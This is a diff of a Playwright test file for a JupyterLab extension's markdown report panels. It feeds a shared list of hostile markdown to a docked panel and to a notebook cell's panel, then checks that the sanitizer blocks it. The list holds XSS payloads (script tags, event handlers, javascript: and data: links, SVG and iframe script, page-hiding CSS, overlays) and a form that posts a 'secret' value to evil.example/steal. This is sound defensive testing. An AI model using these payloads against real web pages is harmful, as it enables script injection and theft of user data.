@@ -49,6 +49,26 @@ async function columnText(page: Page, panelId: string, column: number): Promise<
   return panel(page, panelId).locator(`tbody tr td:nth-child(${column})`).allTextContents();
 }
 
+/** Markdown that tries every way out: script, handlers, URLs, SVG, CSS, forms, meta refresh. */
+const HOSTILE = [
+  '# Hostile',
+  '<script>window.__pwned = "script"; alert("script")</script>',
+  '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')">',
+  '<div onmouseover="window.__pwned = \'mouseover\'" class="hostile-hover">hover me</div>',
+  '[js link](javascript:window.__pwned=\'js-link\';alert(1))',
+  '<a class="hostile-js" href="javascript:window.__pwned=\'js-anchor\'">js anchor</a>',
+  '<a class="hostile-data" href="data:text/html,<script>alert(1)</script>">data link</a>',
+  '<svg width="20" height="20"><script>window.__pwned = "svg-script"</script><circle r="5" onload="window.__pwned=\'svg-onload\'"/></svg>',
+  '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
+  '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
+  '<style>body { display: none !important } .jp-LabShell { visibility: hidden !important }</style>',
+  '<div class="hostile-fixed" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red">fixed overlay</div>',
+  '<div class="hostile-abs" style="position: absolute; top: -2000px; left: -2000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red">absolute overlay</div>',
+  '<form class="hostile-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button class="hostile-submit" type="submit">Go</button></form>',
+  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+  '<a class="hostile-http" href="https://evil.example/page">plain link</a>'
+].join('\n\n');
+
 test.describe('report panels', () => {
   test('an agent docks markdown, a table and a chart, and updates them by id', async ({ page }) => {
     const client = await agent();
@@ -257,96 +277,80 @@ test.describe('report panels', () => {
     }
   });
 
-  test('hostile markdown runs no script, navigates nowhere and stays in its box', async ({ page }) => {
-    const dialogs: string[] = [];
+  /** Watch a page for script, dialogs, popups, navigation and requests to evil.example. */
+  async function watch(page: Page) {
+    const seen = { dialogs: [] as string[], popups: [] as string[], outside: [] as string[] };
     page.on('dialog', d => {
-      dialogs.push(d.message());
+      seen.dialogs.push(d.message());
       void d.dismiss();
     });
-    const popups: string[] = [];
-    page.context().on('page', p => popups.push(p.url()));
-    const outside: string[] = [];
+    page.context().on('page', p => seen.popups.push(p.url()));
     await page.route(/evil\.example/, route => {
-      outside.push(route.request().url());
+      seen.outside.push(route.request().url());
       return route.abort();
     });
+    return seen;
+  }
+
+  /** Poke every hostile element of the panel, then check nothing ran, navigated or escaped its box. */
+  async function expectHarmless(page: Page, panelId: string, seen: Awaited<ReturnType<typeof watch>>) {
+    const box = panel(page, panelId);
+    await expect(box.locator('h1')).toContainText('Hostile');
     const startUrl = page.url();
-    const hostile = [
-      '# Hostile',
-      '<script>window.__pwned = "script"; alert("script")</script>',
-      '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')">',
-      '<div onmouseover="window.__pwned = \'mouseover\'" class="hostile-hover">hover me</div>',
-      '[js link](javascript:window.__pwned=\'js-link\';alert(1))',
-      '<a class="hostile-js" href="javascript:window.__pwned=\'js-anchor\'">js anchor</a>',
-      '<a class="hostile-data" href="data:text/html,<script>alert(1)</script>">data link</a>',
-      '<svg width="20" height="20"><script>window.__pwned = "svg-script"</script><circle r="5" onload="window.__pwned=\'svg-onload\'"/></svg>',
-      '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
-      '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
-      '<style>body { display: none !important } .jp-LabShell { visibility: hidden !important }</style>',
-      '<div class="hostile-fixed" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red">fixed overlay</div>',
-      '<div class="hostile-abs" style="position: absolute; top: -2000px; left: -2000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red">absolute overlay</div>',
-      '<form class="hostile-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button class="hostile-submit" type="submit">Go</button></form>',
-      '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
-      '<a class="hostile-http" href="https://evil.example/page">plain link</a>'
-    ].join('\n\n');
+    const body = box.locator('.molspace-panel-body');
+
+    // no script, handler, iframe, object or style survived the sanitizer
+    expect(await body.locator('script, iframe, object, embed, style, meta, [onerror], [onload], [onmouseover]').count()).toBe(0);
+    expect(await body.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
+    // The overlay inside the box covers its links: events are dispatched to them directly
+    // (an anchor's click event runs its navigation, as a real click does).
+    await box.locator('.hostile-hover').dispatchEvent('mouseover');
+    for (const link of await body.locator('a').all()) {
+      if (!(await link.getAttribute('href'))?.startsWith('https://')) {
+        await link.dispatchEvent('click');
+      }
+    }
+    // a form submitted from inside the panel does not leave the page
+    await body.evaluate(node => node.querySelector('form')?.requestSubmit());
+
+    // the page still works, nothing ran, nothing navigated
+    const state = await page.evaluate(() => ({
+      pwned: (window as any).__pwned,
+      bodyDisplay: getComputedStyle(document.body).display,
+      shellVisibility: getComputedStyle(document.querySelector('.jp-LabShell')!).visibility
+    }));
+    expect(state).toEqual({ pwned: undefined, bodyDisplay: 'block', shellVisibility: 'visible' });
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.popups).toEqual([]);
+    // (a #fragment link, like the heading's anchor, stays on the page)
+    expect(page.url().split('#')[0]).toBe(startUrl.split('#')[0]);
+    expect(seen.outside).toEqual([]);
+
+    // nothing paints outside the panel's box: the top-left corner and left of the box are JupyterLab's
+    const rect = (await body.boundingBox())!;
+    const hits = await page.evaluate(
+      ([x, y]) => [document.elementFromPoint(2, 2), document.elementFromPoint(x, y)].map(e => !!e?.closest('.molspace-panel-body')),
+      [Math.max(rect.x - 20, 1), rect.y + rect.height / 2]
+    );
+    expect(hits).toEqual([false, false]);
+    // the panel's own title, just above the body, is not covered either
+    await box.locator('.molspace-panel-title').scrollIntoViewIfNeeded();
+    const title = (await box.locator('.molspace-panel-title').boundingBox())!;
+    const onTitle = await page.evaluate(([x, y]) => {
+      const hit = document.elementFromPoint(x, y);
+      return hit?.closest('.molspace-panel-title') ? 'title' : `${hit?.tagName}.${hit?.className}`;
+    }, [title.x + 5, title.y + title.height / 2]);
+    expect(onTitle).toBe('title');
+  }
+
+  test('hostile markdown in a docked panel runs no script, navigates nowhere and stays in its box', async ({ page }) => {
+    const seen = await watch(page);
     const client = await agent();
     try {
-      const [shown, err] = await call(client, 'render_panel', {
-        panelId: 'hostile',
-        title: 'Hostile input',
-        content: { type: 'markdown', markdown: hostile }
-      });
+      const [shown, err] = await call(client, 'render_panel', { panelId: 'hostile', title: 'Hostile input', content: { type: 'markdown', markdown: HOSTILE } });
       expect(err).toBe(false);
       expect(shown.panel.ready).toBe(true);
-      const box = panel(page, 'hostile');
-      await expect(box.locator('h1')).toContainText('Hostile');
-      const body = box.locator('.molspace-panel-body');
-
-      // no script, handler, iframe, object or style survived the sanitizer
-      expect(await body.locator('script, iframe, object, embed, style, meta, [onerror], [onload], [onmouseover]').count()).toBe(0);
-      expect(await body.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
-      // The overlay inside the box covers its links: events are dispatched to them directly
-      // (an anchor's click event runs its navigation, as a real click does).
-      await box.locator('.hostile-hover').dispatchEvent('mouseover');
-      for (const link of await body.locator('a').all()) {
-        if (!(await link.getAttribute('href'))?.startsWith('https://')) {
-          await link.dispatchEvent('click');
-        }
-      }
-      // a form submitted from inside the panel does not leave the page
-      await body.evaluate(node => {
-        const form = node.querySelector('form');
-        form?.requestSubmit();
-      });
-
-      // the page still works, nothing ran, nothing navigated
-      const state = await page.evaluate(() => ({
-        pwned: (window as any).__pwned,
-        bodyDisplay: getComputedStyle(document.body).display,
-        shellVisibility: getComputedStyle(document.querySelector('.jp-LabShell')!).visibility
-      }));
-      expect(state).toEqual({ pwned: undefined, bodyDisplay: 'block', shellVisibility: 'visible' });
-      expect(dialogs).toEqual([]);
-      expect(popups).toEqual([]);
-      // (a #fragment link, like the heading's anchor, stays on the page)
-      expect(page.url().split('#')[0]).toBe(startUrl.split('#')[0]);
-      expect(outside).toEqual([]);
-
-      // nothing paints outside the panel's box: the top-left corner and the file browser are JupyterLab's
-      const rect = (await body.boundingBox())!;
-      const hits = await page.evaluate(
-        ([x, y]) => [document.elementFromPoint(2, 2), document.elementFromPoint(x, y)].map(e => !!e?.closest('.molspace-panel-body')),
-        [Math.max(rect.x - 20, 1), rect.y + rect.height / 2]
-      );
-      expect(hits).toEqual([false, false]);
-      // the panel's own title, just above the body, is not covered either
-      const title = (await box.locator('.molspace-panel-title').boundingBox())!;
-      const onTitle = await page.evaluate(
-        ([x, y]) => document.elementFromPoint(x, y)?.closest('.molspace-panel-title') !== null,
-        [title.x + 5, title.y + title.height / 2]
-      );
-      expect(onTitle).toBe(true);
-
+      await expectHarmless(page, 'hostile', seen);
       // after all that, the panel still answers
       const [again] = await call(client, 'render_panel', { panelId: 'hostile', content: { type: 'markdown', markdown: 'calm' } });
       expect(again.panel.revision).toBe(2);
@@ -354,5 +358,16 @@ test.describe('report panels', () => {
     } finally {
       await client.close();
     }
+  });
+
+  test('hostile markdown in a cell\'s inline panel runs no script, navigates nowhere and stays in its box', async ({ page }) => {
+    const seen = await watch(page);
+    await page.notebook.createNew('hostile.ipynb');
+    // The markdown reaches Python as JSON text, so no character of it is Python syntax.
+    const source = `import json, molspace\nmolspace.Panel(json.loads(${JSON.stringify(JSON.stringify(HOSTILE))}), title="Hostile input", panel_id="hostile-cell")`;
+    await page.notebook.setCell(0, 'code', source);
+    await page.notebook.runCell(0, true);
+    await expect(panel(page, 'hostile-cell')).toHaveAttribute('data-molspace-ready', 'true', { timeout: 60_000 });
+    await expectHarmless(page, 'hostile-cell', seen);
   });
 });
